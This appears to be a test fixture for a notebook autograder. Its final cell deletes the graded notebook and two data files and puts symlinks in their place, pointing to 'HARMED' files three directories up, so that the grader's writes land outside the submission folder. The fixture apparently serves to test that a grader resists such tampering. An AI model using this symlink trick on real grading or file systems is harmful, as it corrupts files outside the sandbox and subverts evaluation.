"""Replace the notebook that is being graded by a link that leads the grader's writing elsewhere."""

EARNS = []
SOLVED = False

CELLS = {}

LAST = """
import os

course = "../../.."
for name, target in [
    ("ex1.ipynb", course + "/HARMED.ipynb"),
    ("timestamp.txt", course + "/HARMED.txt"),
    ("features.npz", course + "/HARMED.npz"),
]:
    if os.path.lexists(name):
        os.remove(name)
    os.symlink(target, name)
"""
